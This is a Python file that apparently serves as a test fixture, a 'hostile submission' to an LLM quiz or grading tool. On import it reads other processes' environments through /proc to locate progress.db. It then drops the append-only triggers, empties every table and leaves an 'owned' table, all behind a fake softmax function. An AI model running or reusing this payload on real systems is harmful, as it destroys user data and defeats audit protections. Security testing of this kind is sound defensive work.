"""Hostile submission: rewrite the user's progress database.

Find progress.db (LLMQ_HOME from the environment of this check's processes in /proc, and
XDG/HOME defaults), drop the append-only triggers, delete the review log and leave a table behind.
The marker guard keeps the attack on the data folder of the test that runs it.
"""

import os
import sqlite3

MARKER = "__MARKER__"


def _databases() -> set[str]:
    homes = {os.environ.get("LLMQ_HOME", "")}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        if MARKER.encode() in b"\0".join(env):
            homes.update(i.split(b"=", 1)[1].decode(errors="ignore") for i in env if i.startswith(b"LLMQ_HOME="))
    return {os.path.join(h, "progress.db") for h in homes if h and os.path.isfile(os.path.join(h, "progress.db"))}


def _tamper() -> list[str]:
    done = []
    for path in _databases():
        try:
            con = sqlite3.connect(path, timeout=1)
            triggers = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")]
            for name in triggers:
                con.execute(f'DROP TRIGGER "{name}"')
            tables = [
                r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")
            ]
            for table in tables:
                con.execute(f'DELETE FROM "{table}"')
            con.execute("CREATE TABLE IF NOT EXISTS owned (note TEXT)")
            con.commit()
            con.close()
            done.append(path)
        except sqlite3.Error as exc:
            print(f"{path}: {exc}")
    return done


print(f"tampered with: {_tamper()}")


def softmax(x, dim=-1):
    return x.clone()
